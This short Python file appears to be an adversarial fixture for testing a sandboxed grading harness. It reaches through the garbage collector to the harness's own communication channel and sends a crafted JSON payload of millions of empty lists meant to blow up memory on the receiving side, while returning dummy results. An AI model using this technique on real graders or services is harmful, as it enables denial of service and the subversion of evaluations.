"""cell train: sends millions of empty lists, which take twenty times their length in memory."""
# loses: test_train
# sign: ready

import gc
import struct

channels = [thing for thing in gc.get_objects() if type(thing).__name__ == "Channel"]


def train(x, y, epochs):
    body = b'{"return": [' + b"[]," * (channels[0].limit // 3 - 10) + b"[]]}"
    channels[0].sock.sendall(struct.pack(">Q", len(body)) + body)
    return [0, 0], 0, [1]


print("ready")
